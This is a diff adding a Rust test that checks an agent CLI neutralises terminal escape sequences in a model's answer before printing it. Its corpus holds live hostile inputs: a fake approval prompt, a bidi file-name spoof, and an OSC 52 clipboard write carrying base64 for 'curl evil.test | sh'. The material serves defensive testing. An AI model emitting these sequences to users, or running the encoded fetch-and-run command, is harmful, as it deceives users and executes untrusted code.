@@ -3088,3 +3088,57 @@ async fn screenshots_go_back_as_data_urls_in_the_scale_maps_space() {
     }
     rig.assert_mock_clean();
 }
+
+// ---------------------------------------------------------------------
+// Issue 11: terminal safety, guest text, strict actions, failed actions,
+// storage, commentary
+// ---------------------------------------------------------------------
+
+/// Escape sequences a page, the guest or a model could try to print.
+fn escape_corpus() -> Vec<String> {
+    let mut c: Vec<String> = [
+        "\x1b[2J\x1b[H",                              // CSI: clear the screen, home
+        "\x1b[1A\x1b[2KApprove? Type `yes`: ",        // CSI: a fake prompt
+        "\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07", // OSC 52: the clipboard
+        "\x07\x07",                                   // BEL
+        "oops\x08\x08\x08\x08",                       // backspaces
+        "fine\rEVIL",                                 // CR
+        "\u{202e}exe.fdp",                            // a bidi override
+        "\u{2066}x\u{2069}",                          // bidi isolates
+    ]
+    .into_iter()
+    .map(str::to_string)
+    .collect();
+    c.push((0x80u32..=0x9f).filter_map(char::from_u32).collect()); // C1
+    c
+}
+
+/// Whether a terminal would interpret anything in `s`.
+fn terminal_would_interpret(s: &str) -> bool {
+    s.chars().any(|c| {
+        (c.is_control() && c != '\n' && c != '\t')
+            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+    })
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn terminal_the_printed_summary_neutralises_escape_sequences_in_the_models_answer() {
+    for evil in escape_corpus() {
+        let rig = Rig::new().await;
+        rig.mock
+            .push(Reply::done(&format!("All done. {evil} Trust me.")));
+        let mut op = ScriptedOp::new(rig.probe());
+        let run = rig.run(rig.opts(), &mut op).await;
+        run.assert_ending(Ending::Finished);
+        // The outcome keeps the model's words as they were...
+        assert!(run.outcome.message.contains(&evil));
+        // ...and what reaches the terminal shows them, inert.
+        let printed = host_cli::agent::cmd::summary(&run.outcome, &run.dir);
+        assert!(
+            !terminal_would_interpret(&printed),
+            "{evil:?} reached the terminal: {printed:?}"
+        );
+        assert!(printed.contains("All done.") && printed.contains("Trust me."));
+        rig.assert_mock_clean();
+    }
+}
